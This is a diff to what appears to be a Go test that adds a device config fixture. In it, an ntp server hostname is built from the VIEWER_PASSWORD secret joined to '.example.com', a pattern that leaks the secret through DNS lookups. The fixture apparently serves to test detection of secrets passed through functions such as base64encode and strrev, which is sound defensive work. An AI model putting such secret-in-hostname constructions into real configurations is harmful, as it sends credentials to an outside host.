@@ -132,6 +132,10 @@ device "camera" {
   upnp {
     enabled = true
   }
+
+  ntp {
+    server = "${replace(secret("env:VIEWER_PASSWORD"), "x", "y")}.example.com"
+  }
 `)
 	for i, name := range []string{"upper", "strrev", "base64encode", "split", "format", "merge", "one", "try", "can", "yamlencode"} {
 		call := calls[slices.IndexFunc(calls, func(call string) bool { return strings.HasPrefix(call, name+"(") })]
